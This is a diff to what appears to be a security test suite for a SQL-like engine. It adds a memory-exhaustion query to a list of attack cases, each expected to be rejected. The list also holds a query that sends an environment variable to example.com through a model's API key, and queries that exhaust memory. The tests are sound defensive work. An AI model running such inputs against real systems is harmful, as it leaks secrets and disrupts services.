@@ -247,6 +247,7 @@ SETTINGS = [
     Attack("a variable of the environment, sent off", "write",
            "CREATE MODEL k PREDICT y USING engine = 'hf_api', task = 'text-classification', "
            "base_url = 'https://example.com', api_key = env('PATH')", 403, "ACCESS"),
+    Attack("one value larger than the memory", "read", "SELECT len(range(4000000000))", 503, "MEMORY_LIMIT"),
     Attack("more memory than there is", "read", "SELECT list(i) FROM range(1000000000) r(i)", 503, "MEMORY_LIMIT"),
 ]  # fmt: skip
 
